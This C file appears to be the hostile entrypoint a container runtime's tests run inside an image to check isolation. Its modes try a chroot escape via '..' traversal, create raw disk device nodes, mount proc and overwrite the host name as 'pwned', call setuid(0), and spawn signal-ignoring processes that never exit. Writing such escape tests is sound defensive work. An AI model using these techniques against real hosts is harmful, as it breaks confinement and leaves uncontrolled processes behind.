/* attack.c: what a hostile image's entrypoint tries, one mode a run. Each
 * attempt prints "name: ok" or "name: errno-text" on stdout; the tests read
 * the host, not these lines, to decide. Built static, so that the image
 * needs nothing else. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <unistd.h>

static void report(const char *what, int rc) {
	printf("%s: %s\n", what, rc < 0 ? strerror(errno) : "ok");
	fflush(stdout);
}

/* touch creates dir/name, the proof of a write on the host. */
static int touch(const char *dir, const char *name) {
	char p[4096];
	snprintf(p, sizeof p, "%s/%s", dir, name);
	int fd = open(p, O_WRONLY | O_CREAT, 0666);
	if (fd >= 0) close(fd);
	return fd;
}

/* escape: the classic way out of a chroot, as root: chroot into a
 * subdirectory, climb with "..", chroot to where that leads. */
static void escape(const char *canary) {
	mkdir("/escape", 0755);
	report("chroot /escape", chroot("/escape"));
	for (int i = 0; i < 64; i++) chdir("..");
	report("chroot .", chroot("."));
	report("write canary", touch(canary, "escaped"));
	char p[4096];
	snprintf(p, sizeof p, "/proc/1/root%s", canary);
	report("write canary through /proc/1/root", touch(p, "escaped-proc"));
}

/* devices: make a block device for the first disk, mount, and write
 * the kernel's settings. */
static void devices(const char *canary) {
	report("mknod /dev/vda", mknod("/dev/diet-vda", S_IFBLK | 0600, makedev(253, 0)));
	report("mknod /dev/sda", mknod("/dev/diet-sda", S_IFBLK | 0600, makedev(8, 0)));
	mkdir("/mnt", 0755);
	report("mount tmpfs", mount("none", "/mnt", "tmpfs", 0, NULL));
	report("mount proc", mount("proc", "/mnt", "proc", 0, NULL));
	int fd = open("/proc/sys/kernel/hostname", O_WRONLY);
	report("open /proc/sys/kernel/hostname", fd);
	if (fd >= 0) report("write /proc/sys/kernel/hostname", (int)write(fd, "pwned", 5));
	fd = open("/proc/sysrq-trigger", O_WRONLY);
	report("open /proc/sysrq-trigger", fd);
	report("write canary", touch(canary, "devices"));
}

/* whoami: what a setuid-root program gets. */
static void whoami(void) {
	printf("euid=%d uid=%d\n", (int)geteuid(), (int)getuid());
	report("setuid 0", setuid(0));
	fflush(stdout);
}

/* linger: children that leave the session, ignore every signal they can,
 * and never exit; the parent stays too. */
static void linger(void) {
	for (int i = 0; i < 3; i++) {
		if (fork() == 0) {
			setsid();
			if (fork() == 0) {
				for (int s = 1; s < 32; s++) signal(s, SIG_IGN);
				for (;;) pause();
			}
			_exit(0);
		}
	}
	printf("lingering\n");
	fflush(stdout);
	for (;;) pause();
}

int main(int argc, char **argv) {
	if (argc < 2) return 2;
	const char *canary = argc > 2 ? argv[2] : "/nonexistent";
	if (!strcmp(argv[1], "escape")) escape(canary);
	else if (!strcmp(argv[1], "devices")) devices(canary);
	else if (!strcmp(argv[1], "whoami")) whoami();
	else if (!strcmp(argv[1], "linger")) linger();
	else if (!strcmp(argv[1], "getenv")) printf("%s=%s\n", canary, getenv(canary) ? getenv(canary) : "");
	else if (!strcmp(argv[1], "true")) return 0;
	else return 2;
	return 0;
}
